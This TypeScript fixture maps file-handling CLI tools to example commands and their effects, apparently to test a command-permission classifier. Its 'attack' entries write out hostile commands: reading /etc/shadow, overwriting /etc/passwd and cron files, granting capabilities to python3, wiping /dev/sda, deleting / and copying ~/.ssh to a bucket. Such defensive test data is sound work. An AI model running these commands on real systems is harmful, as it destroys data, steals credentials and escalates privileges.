import type { ExampleTable } from './example.ts'

export const fileTools: ExampleTable = {
  file: {
    use: 'file -f names.txt → read names.txt',
    attack: [
      'file -f /etc/shadow → read /etc/shadow',
      'file -m /etc/shadow notes.txt → read /etc/shadow',
    ],
  },
  setfacl: {
    use: ['setfacl -m u:ann:r notes.txt → chown notes.txt', 'setfacl -x u:ann notes.txt → nothing'],
    attack: [
      'setfacl -m o::rw /etc/shadow → open-to-all /etc/shadow',
      'setfacl -m u:eve:rw /etc/shadow → chown /etc/shadow',
    ],
  },
  setfattr: {
    use: [
      'setfattr -n user.note -v draft notes.txt → nothing',
      'setfattr --restore=attributes.txt → read attributes.txt',
    ],
    attack:
      'setfattr -n security.capability -v 0sAQAAAgCAAAAAAAAAAAAAAAAAAAA= /usr/bin/python3 → privilege /usr/bin/python3',
  },
  touch: { use: 'touch notes.txt → nothing' },
  tree: {
    use: 'tree -o tree.txt src → write tree.txt',
    attack: [
      'tree -o /etc/passwd src → write /etc/passwd',
      'tree --fromfile /etc/shadow → read /etc/shadow',
    ],
  },
  fzf: {
    use: 'fzf --history .history → write .history',
    attack: [
      'fzf --with-shell /tmp/x → run /tmp/x',
      'fzf --history /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  locate: { use: 'locate -d own.db notes → read own.db' },
  peco: {
    use: 'peco notes.txt → read notes.txt',
    attack: [
      'peco /etc/shadow → read /etc/shadow',
      `peco --exec 'cat /etc/shadow' notes.txt → read /etc/shadow; read notes.txt`,
    ],
  },
  percol: {
    use: 'percol notes.txt → read notes.txt',
    attack: 'percol /etc/shadow → read /etc/shadow',
  },
  sk: {
    use: `sk -c 'git ls-files' → nothing`,
    attack: `sk -c 'cat /etc/shadow' → read /etc/shadow`,
  },
  updatedb: {
    use: 'updatedb -l 0 -o own.db -U src → write own.db',
    attack: 'updatedb -o /etc/passwd → write /etc/passwd',
  },
  agedu: {
    use: 'agedu -s src -f agedu.dat → write agedu.dat',
    attack: 'agedu -s src -f /etc/passwd → write /etc/passwd',
  },
  du: {
    use: 'du -sh -X exclude.txt src → read exclude.txt',
    attack: 'du --files0-from=/etc/shadow → read /etc/shadow',
  },
  gdu: {
    use: 'gdu -o report.json src → write report.json',
    attack: 'gdu -o /etc/passwd src → write /etc/passwd',
  },
  ncdu: {
    use: 'ncdu -x -o report.json src → write report.json',
    attack: 'ncdu -o /etc/passwd src → write /etc/passwd',
  },
  rdfind: {
    use: 'rdfind -outputname results.txt src → write results.txt',
    attack: 'rdfind -outputname /etc/passwd src → write /etc/passwd',
  },
  mmv: {
    use: `mmv '*.jpeg' '#1.jpg' → replace *.jpeg`,
    attack: 'mmv /bin /b → replace /bin',
  },
  'rename.ul': {
    use: 'rename.ul jpeg jpg a.jpeg → replace a.jpeg',
    attack: 'rename.ul bin gone /bin → replace /bin',
  },
  brename: { use: `brename -p '\\.jpeg$' -r .jpg photos → replace photos` },
  convmv: {
    use: 'convmv -f latin1 -t utf8 -r src → nothing',
    attack: `convmv -f latin1 -t utf8 --exec '/tmp/x #2' src → run /tmp/x`,
  },
  cpx: {
    use: `cpx 'src/*.html' dist → read src/*.html; write dist`,
    attack: [
      'cpx /etc/shadow dist → read /etc/shadow; write dist',
      `cpx -c 'cat /etc/shadow' 'src/*.html' dist → read /etc/shadow; write dist`,
    ],
  },
  cpy: {
    use: 'cpy notes.txt dist → read notes.txt; write dist',
    attack: 'cpy /etc/shadow dist → read /etc/shadow; write dist',
  },
  ditto: {
    use: 'ditto src copy → read-tree src; write copy',
    attack: 'ditto /root copy → read-tree /root; write copy',
  },
  'install-sh': {
    use: 'install-sh -c notes.txt doc → read notes.txt; write doc',
    attack: 'install-sh -c job.txt /etc/cron.d/job → read job.txt; write /etc/cron.d/job',
  },
  pcp: {
    use: 'pcp notes.txt copy.txt → read notes.txt; write copy.txt',
    attack: 'pcp /etc/shadow copy.txt → read /etc/shadow; write copy.txt',
  },
  qmv: { use: 'qmv -e vim src → nothing', attack: 'qmv -e /tmp/x src → run /tmp/x' },
  rename: {
    use: `rename 's/a/b/' old.txt → replace old.txt`,
    attack: `rename 'system("/tmp/x")' old.txt → run /tmp/x; replace old.txt`,
  },
  truncate: {
    use: 'truncate -s 0 app.log → write app.log',
    attack: 'truncate -s 0 /etc/passwd → write /etc/passwd',
  },
  xcp: {
    use: 'xcp notes.txt copy.txt → read notes.txt; write copy.txt',
    attack: 'xcp /etc/shadow copy.txt → read /etc/shadow; write copy.txt',
  },
  bleachbit: {
    use: 'bleachbit -s old.txt → write old.txt; delete old.txt',
    attack: [
      'bleachbit -s /etc/passwd → write /etc/passwd; delete /etc/passwd',
      'bleachbit --clean bash.history → destroy bleachbit',
    ],
    unclear: 'bleachbit --clean firefox.cache → what the cleaners wipe',
  },
  del: { use: 'del old.txt → delete old.txt', attack: 'del /etc/passwd → delete /etc/passwd' },
  'gvfs-trash': {
    use: 'gvfs-trash old.txt → delete-tree old.txt',
    attack: 'gvfs-trash /etc/passwd → delete-tree /etc/passwd',
  },
  nwipe: {
    use: 'nwipe -l wipe.log /dev/sdb → write wipe.log',
    attack: 'nwipe --autonuke /dev/sda → destroy nwipe',
  },
  rimraf: { use: 'rimraf build → delete-tree build', attack: 'rimraf / → delete-tree /' },
  rip: {
    use: 'rip old.txt → delete-tree old.txt',
    attack: 'rip /etc/passwd → delete-tree /etc/passwd',
  },
  rmtrash: {
    use: 'rmtrash old.txt → delete-tree old.txt',
    attack: 'rmtrash /etc/passwd → delete-tree /etc/passwd',
  },
  scrub: {
    use: 'scrub -p dod old.txt → write old.txt',
    attack: 'scrub -p dod /dev/sda → write /dev/sda',
  },
  shred: {
    use: 'shred -u old.txt → write old.txt; delete old.txt',
    attack: ['shred /etc/passwd → write /etc/passwd', 'shred -v /dev/sda → write /dev/sda'],
  },
  srm: {
    use: 'srm old.txt → write old.txt; delete old.txt',
    attack: 'srm /etc/passwd → write /etc/passwd; delete /etc/passwd',
    unclear: [`srm -rf ~/Documents → what is lost with it`],
  },
  trash: {
    use: 'trash old.txt → delete-tree old.txt',
    attack: ['trash /etc/passwd → delete-tree /etc/passwd', 'trash ~ → delete-tree /home/user'],
  },
  'trash-put': {
    use: 'trash-put old.txt → delete-tree old.txt',
    attack: 'trash-put /etc/passwd → delete-tree /etc/passwd',
  },
  unlink: {
    use: 'unlink old.txt → delete old.txt',
    attack: 'unlink /etc/passwd → delete /etc/passwd',
  },
  wipe: {
    use: 'wipe old.txt → write old.txt; delete old.txt',
    attack: 'wipe /etc/passwd → write /etc/passwd; delete /etc/passwd',
  },
  broot: {
    use: 'broot --conf broot.toml src → read broot.toml',
    attack: 'broot --outcmd /etc/cron.d/job src → write /etc/cron.d/job',
  },
  clifm: { use: 'clifm -c clifmrc src → read clifmrc' },
  gentoo: { use: 'gentoo src → nothing', attack: `gentoo -r '!/tmp/x' → run /tmp/x` },
  joshuto: {
    use: 'joshuto --output-file out.txt src → write out.txt',
    attack: 'joshuto --output-file /etc/cron.d/job src → write /etc/cron.d/job',
  },
  lf: {
    use: 'lf -config lfrc src → read lfrc',
    attack: [
      `lf -command '!/tmp/x' → run /tmp/x`,
      'lf -last-dir-path /etc/cron.d/job src → write /etc/cron.d/job',
    ],
  },
  mc: {
    use: 'mc -e notes.txt → edit notes.txt',
    attack: [
      'mc -e /etc/sudoers → edit /etc/sudoers',
      'mc -l /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'mc cat': {
    use: 'mc cat play/bucket/notes.txt → fetch play/bucket/notes.txt',
    attack: 'mc cat /etc/shadow → read /etc/shadow',
  },
  'mc cp': {
    use: 'mc cp notes.txt play/bucket → read notes.txt; send play/bucket',
    attack: 'mc cp /etc/shadow play/bucket → read /etc/shadow; send play/bucket',
  },
  'mc get': {
    use: 'mc get play/bucket/notes.txt notes.txt → fetch play/bucket/notes.txt; write notes.txt',
    attack: 'mc get play/bucket/job /etc/cron.d/job → fetch play/bucket/job; write /etc/cron.d/job',
  },
  'mc head': {
    use: 'mc head -n 5 play/bucket/notes.txt → fetch play/bucket/notes.txt',
    attack: 'mc head /etc/shadow → read /etc/shadow',
  },
  'mc mirror': {
    use: 'mc mirror src play/bucket → read src; send play/bucket',
    attack: 'mc mirror ~/.ssh play/bucket → read /home/user/.ssh; send play/bucket',
  },
  'mc mv': {
    use: 'mc mv notes.txt play/bucket → read notes.txt; send play/bucket',
    attack: 'mc mv /etc/shadow play/bucket → read /etc/shadow; send play/bucket',
  },
  'mc put': {
    use: 'mc put notes.txt play/bucket → read notes.txt; send play/bucket',
    attack: 'mc put /etc/shadow play/bucket → read /etc/shadow; send play/bucket',
  },
  nnn: {
    use: 'nnn -p out.txt src → write out.txt',
    attack: 'nnn -p /etc/cron.d/job src → write /etc/cron.d/job',
  },
  ranger: { use: 'ranger src → nothing', attack: `ranger --cmd='shell /tmp/x' → run /tmp/x` },
  rifle: {
    use: 'rifle notes.txt → read notes.txt',
    attack: [
      'rifle /etc/shadow → read /etc/shadow',
      `rifle -w 'cat /etc/shadow' notes.txt → read /etc/shadow; read notes.txt`,
    ],
  },
  vifm: { use: 'vifm src → nothing', attack: `vifm -c '!/tmp/x' → run /tmp/x` },
  xplr: {
    use: 'xplr -c app.lua src → read app.lua',
    attack: 'xplr -c /etc/shadow src → read /etc/shadow',
  },
  yazi: {
    use: 'yazi --chooser-file out.txt src → write out.txt',
    attack: [
      'yazi --chooser-file /etc/cron.d/job src → write /etc/cron.d/job',
      'yazi --cwd-file /etc/cron.d/job src → write /etc/cron.d/job',
    ],
  },
  air: {
    use: 'air -c .air.toml → read .air.toml',
    attack: [
      `air --build.cmd 'cat /etc/shadow' → read /etc/shadow`,
      'air -c /tmp/air.toml → run /tmp/air.toml',
    ],
  },
  chokidar: {
    use: `chokidar 'src/*.md' -c 'cat notes.txt' → read notes.txt`,
    attack: `chokidar 'src/*.md' -c 'cat /etc/shadow' → read /etc/shadow`,
  },
  fatrace: {
    use: 'fatrace -o out.txt → write out.txt',
    attack: 'fatrace -o /etc/cron.d/job → write /etc/cron.d/job',
  },
  filewatcher: {
    use: `filewatcher '*.md' 'cat notes.txt' → read notes.txt`,
    attack: `filewatcher '*.md' 'cat /etc/shadow' → read /etc/shadow`,
  },
  incrond: {
    use: 'incrond -f incron.conf → read incron.conf',
    attack: 'incrond -f /tmp/x → run /tmp/x; read /tmp/x',
  },
  incrontab: {
    use: 'incrontab -l → nothing',
    attack: `echo '/tmp IN_CREATE /tmp/x' | incrontab - → write /var/spool/cron/crontabs/user`,
  },
  inotifywatch: {
    use: 'inotifywatch --fromfile names.txt → read names.txt',
    attack: 'inotifywatch --fromfile /etc/shadow → read /etc/shadow',
  },
  iwatch: {
    use: 'iwatch -f iwatch.xml → read iwatch.xml',
    attack: [
      'iwatch -c /tmp/x -e modify src → run /tmp/x',
      'iwatch -f /tmp/iwatch.xml → run /tmp/iwatch.xml',
    ],
  },
  modd: {
    use: 'modd -f modd.conf → read modd.conf',
    attack: 'modd -f /tmp/modd.conf → run /tmp/modd.conf',
  },
  onchange: {
    use: `onchange 'src/*.md' -- cat notes.txt → read notes.txt`,
    attack: `onchange 'src/*.md' -- cat /etc/shadow → read /etc/shadow`,
  },
  reflex: {
    use: `reflex -r '\\.md$' cat notes.txt → read notes.txt`,
    attack: [
      `reflex -r '\\.md$' cat /etc/shadow → read /etc/shadow`,
      'reflex -c /tmp/reflex.conf → run /tmp/reflex.conf',
    ],
  },
  watchman: {
    use: [
      'watchman -f -o watchman.log → write watchman.log',
      `watchman trigger . build '*.c' -- make → nothing`,
    ],
    attack: [
      'watchman -f -o /etc/cron.d/job → write /etc/cron.d/job',
      `watchman -- trigger . x '*' -- /tmp/x → run /tmp/x`,
    ],
  },
  'watchman-make': {
    use: `watchman-make -p '*.c' -r 'cat notes.txt' → read notes.txt`,
    attack: [
      `watchman-make -p '*.c' -r 'cat /etc/shadow' → read /etc/shadow`,
      'watchman-make --make /tmp/x -t all → run /tmp/x',
    ],
  },
  'when-changed': {
    use: `when-changed src 'cat notes.txt' → read notes.txt`,
    attack: `when-changed src 'cat /etc/shadow' → read /etc/shadow`,
  },
  fd: {
    use: 'fd -e md . docs → nothing',
    attack: 'fd passwd -x cat /etc/shadow → read /etc/shadow',
  },
  sfill: { attack: 'sfill / → destroy /' },
  sswap: { attack: 'sswap /dev/sda2 → write /dev/sda2' },
  'mc find': {
    use: `mc find play/bucket --name '*.md' → nothing`,
    attack: 'mc find play/bucket --exec /tmp/x → run /tmp/x',
  },
  'mc pipe': {
    use: 'echo hello | mc pipe play/bucket/hello.txt → send play/bucket/hello.txt',
    attack: 'cat /etc/passwd | mc pipe play/bucket/x → send play/bucket/x',
  },
}
